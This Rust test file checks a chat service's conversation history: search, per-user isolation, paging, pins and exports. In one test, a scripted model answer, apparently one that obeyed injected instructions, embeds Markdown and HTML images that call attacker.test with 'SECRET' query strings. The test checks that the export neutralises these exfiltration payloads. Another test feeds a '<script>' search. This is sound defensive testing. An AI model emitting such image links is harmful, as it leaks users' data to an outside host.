//! The history: search, pages, names, pins, exports.

use conformance::api::id;
use conformance::{Say, poll};
use serde_json::{Value, json};

use crate::browser::{Browser, PASSWORD, Page, Stage, account_with_password, attribute};
use crate::conversations::{ask, completed};
use crate::hostile::assert_harmless;

/// More conversations than a page shows.
const MANY: usize = 53;

/// Returns the titles of the listed conversations, in their order.
fn titles(page: &str) -> Vec<String> {
    let list = page.split("class=\"entries conversations\"").nth(1).unwrap_or_default();
    let titles = list.split("<span class=\"title\" dir=\"auto\">").skip(1);
    titles.map(|rest| rest.split('<').next().unwrap_or_default().to_owned()).collect()
}

/// Returns the titles that a search finds, once everything is indexed.
fn found(browser: &Browser, words: &str) -> Vec<String> {
    let encoded: String = words.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let page = poll::until("everything is indexed", || {
        let page = browser.get(&format!("/history?q={encoded}")).expect_page(200);
        (!page.contains("still being added")).then_some(page)
    });
    titles(&page)
}

#[test]
fn conversations_are_found_by_words_of_their_titles_and_texts() {
    let stage = Stage::new();
    let browser = stage.signed_in();
    stage.vendor.will([Say::text("Výpověď z nájmu trvá tři měsíce.")]);
    let first = ask(&browser, "How long does it take?");
    completed(&browser, &first);
    stage.vendor.will([Say::text("On the fifth.")]);
    completed(&browser, &ask(&browser, "When is the rent due?"));
    assert_eq!(found(&browser, "vypoved NAJM"), ["How long does it take?"], "case, diacritics, beginnings");
    let page = browser.get("/history?q=vypoved+NAJM").expect_page(200);
    let passage =
        "<p class=\"passage\" dir=\"auto\"><mark>Výpověď</mark> z <mark>nájmu</mark> trvá tři měsíce.</p>";
    assert!(page.contains(passage), "{page}");
    assert!(!browser.get("/history").expect_page(200).contains("class=\"passage\""));
    assert_eq!(found(&browser, "rent"), ["When is the rent due?"]);
    assert_eq!(found(&browser, "rent months"), Vec::<String>::new(), "all words are required");
    assert_eq!(found(&browser, "  "), ["When is the rent due?", "How long does it take?"]);
    browser.post(&format!("{first}/change"), &[("title", "Notice of <termination>")]).expect_redirect(&first);
    assert_eq!(found(&browser, "termination"), ["Notice of &#60;termination&#62;"]);
    stage.vendor.will([Say::text("A heron.")]);
    browser.post(&format!("{first}/ask"), &[("input", "Which bird?")]).expect_redirect(&first);
    completed(&browser, &first);
    assert_eq!(found(&browser, "heron"), ["Notice of &#60;termination&#62;"], "what is new is found");
    browser.post(&format!("{first}/delete"), &[("next", "/history")]).expect_redirect("/history");
    assert_eq!(found(&browser, "heron"), Vec::<String>::new());
    let none = browser.get("/history?q=%3Cscript%3E").expect_page(200);
    assert!(none.contains("Nothing was found for"), "{none}");
    assert_harmless(&none);
}

#[test]
fn nobody_finds_the_conversations_of_others() {
    let stage = Stage::new();
    let browser = stage.signed_in();
    completed(&browser, &ask(&browser, "The secret heron"));
    assert_eq!(found(&browser, "heron").len(), 1);
    let other = account_with_password(&stage.service);
    let stranger = Browser::new(&stage.service);
    stranger.get("/history").expect_redirect("/sign-in?next=/history");
    stranger.sign_in(&other.email, PASSWORD).expect_redirect("/");
    assert_eq!(found(&stranger, "heron"), Vec::<String>::new());
    let path =
        format!("/c/{}", id(&stage.service.api(&stage.account).chats("").json()["chats"][0], "chatId"));
    for page in ["export.md", "export.json", "print"] {
        stranger.get(&format!("{path}/{page}")).expect_page(404);
    }
    stranger.post(&format!("{path}/change"), &[("title", "mine")]).expect_page(404);
}

#[test]
fn the_history_has_pages_pins_and_the_names_of_keys() {
    let stage = Stage::new();
    let (browser, api) = (stage.signed_in(), stage.service.api(&stage.account));
    for number in 0..MANY {
        api.completed(&api.ask(&format!("Question {number}.")));
    }
    let own = ask(&browser, "Asked here");
    completed(&browser, &own);
    let first = browser.get("/history").expect_page(200);
    assert_eq!((titles(&first).len(), titles(&first)[0].as_str()), (50, "Asked here"));
    assert_eq!(first.matches("class=\"through\"").count(), 49, "all but one came through the key");
    let second = browser.get(&attribute(&first, "data-more", "href").replace("&#38;", "&")).expect_page(200);
    assert_eq!(titles(&second), ["Question 3.", "Question 2.", "Question 1.", "Question 0."]);
    assert!(!second.contains("data-more"));
    let oldest = second.rsplit("/change\"").nth(1).and_then(|before| before.rsplit("action=\"").next());
    let oldest = format!("{}/change", oldest.expect("a form"));
    browser.post(&oldest, &[("pinned", "on"), ("next", "/history")]).expect_redirect("/history");
    let pinned = browser.get("/history").expect_page(200);
    assert_eq!(titles(&pinned)[0], "Question 0.");
    assert!(pinned.contains("value=\"off\""), "{pinned}");
    browser.post(&oldest, &[("pinned", "off")]).expect_redirect(oldest.trim_end_matches("/change"));
    assert_eq!(titles(&browser.get("/history").expect_page(200))[0], "Asked here");
    assert_eq!(found(&browser, "asked"), ["Asked here"]);
    let refused = browser.post(&format!("{own}/change"), &[("title", " ")]).expect_page(400);
    assert!(refused.contains("title has 1 to 120 characters"), "{refused}");
}

#[test]
fn an_exported_answer_loads_nothing() {
    let stage = Stage::new();
    let browser = stage.signed_in();
    let obeying = "![i](https://attacker.test/?d=SECRET) and ![j][k] and <img src=\"https://attacker.test/?e=SECRET\">\n\n\
                   `![code](stays)`\n\n[k]: https://attacker.test/?f=SECRET";
    stage.vendor.will([Say::text(obeying)]);
    let path = ask(&browser, "What does the letter say?");
    completed(&browser, &path);
    let text = browser.get(&format!("{path}/export.md")).text();
    assert!(text.contains("\n[i](https://attacker.test/?d=SECRET) and [j][k] and \\<img src="), "{text}");
    assert!(text.contains("`![code](stays)`"), "code is no image: {text}");
    assert_eq!(text.matches("![").count(), 1, "{text}");
}

#[test]
fn a_conversation_is_exported() {
    let stage = Stage::new();
    let (browser, api) = (stage.signed_in(), stage.service.api(&stage.account));
    assert_eq!(api.upload("lease.txt", b"The rent of flat 7 is due on the fifth.\n").status, 201);
    let search = json!({ "query": "rent flat 7 due" });
    stage.vendor.will([Say::Call { tool: "search".to_owned(), arguments: search }]);
    stage.vendor.will([Say::text("It is due on the **fifth** [1].")]);
    let path = ask(&browser, "When is the rent due?\n# <b>");
    completed(&browser, &path);
    let markdown = browser.get(&format!("{path}/export.md"));
    assert_eq!(markdown.header("content-type"), Some("text/markdown; charset=utf-8"));
    let name = markdown.header("content-disposition").unwrap_or_default();
    assert!(name.starts_with("attachment") && name.contains("When is the rent due.md"), "{name}");
    let text = markdown.text();
    assert!(text.starts_with("# When is the rent due?\n"), "{text}");
    assert!(text.contains("> When is the rent due?\n> # \\<b>\n") && text.contains("**fifth**"), "{text}");
    assert!(text.contains("It is due on the **fifth** [1].\n"), "{text}");
    assert!(text.ends_with("\n## Sources\n\n[1] `/uploads/lease.txt`, line 1\n"), "{text}");
    let in_czech = browser.with("accept-language", "cs").get(&format!("{path}/export.md")).text();
    assert!(in_czech.ends_with("\n## Zdroje\n\n[1] `/uploads/lease.txt`, řádek 1\n"), "{in_czech}");
    let exported: Value = browser.get(&format!("{path}/export.json")).json();
    assert_eq!(exported["chat"]["title"], "When is the rent due?");
    assert_eq!(exported["messages"][0]["role"], "USER");
    assert_eq!(exported["messages"][1]["sources"][0]["path"], "/uploads/lease.txt");
    assert_eq!(exported["messages"].as_array().map(Vec::len), Some(2));
    let printed = browser.get(&format!("{path}/print")).expect_page(200);
    assert!(printed.contains("<strong>fifth</strong>") && !printed.contains("<nav"), "{printed}");
    assert_harmless(&printed);
}
